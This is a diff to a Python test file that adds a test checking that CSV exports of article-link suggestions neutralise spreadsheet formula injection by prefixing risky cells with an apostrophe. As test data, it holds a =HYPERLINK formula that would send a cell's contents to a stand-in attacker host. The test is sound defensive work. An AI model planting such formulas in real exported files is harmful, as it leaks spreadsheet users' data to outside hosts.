@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
@@ -84,6 +85,21 @@ def test_csv_and_json_round_trip(G):
     assert float(parsed[0]["weight"]) == rows[0].weight
     data = json.loads(suggestions_json(rows))
     assert data[0] == {**rows[0].as_dict(), "shared": list(rows[0].shared)} and len(data) == len(rows)
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(G):
+    """Titles and keywords come from the corpus: in the CSV an editor opens in a spreadsheet, one
+    that begins as a formula does (=, +, -, @, a tab, a carriage return) gets an apostrophe first;
+    the JSON keeps every text as it is."""
+    row = dataclasses.replace(suggest(G)[0], title='=HYPERLINK("http://evil.example/?"&A1, "click")',
+                              candidate_title="-5 °C: why does salt melt ice?", shared=("@risk", "+1 rule"))
+    parsed = next(csv.DictReader(io.StringIO(suggestions_csv([row]))))
+    assert parsed["title"] == "'" + row.title and parsed["candidate_title"] == "'" + row.candidate_title
+    assert parsed["shared"] == "'@risk; +1 rule" and parsed["article"] == row.article
+    assert json.loads(suggestions_json([row]))[0]["title"] == row.title
+    plain = dataclasses.replace(row, title="Why is -5 °C cold?", candidate_title="\tTabbed", shared=())
+    parsed = next(csv.DictReader(io.StringIO(suggestions_csv([plain]))))
+    assert parsed["title"] == "Why is -5 °C cold?" and parsed["candidate_title"] == "'\tTabbed"
 
 
 def test_on_the_bundled_content():
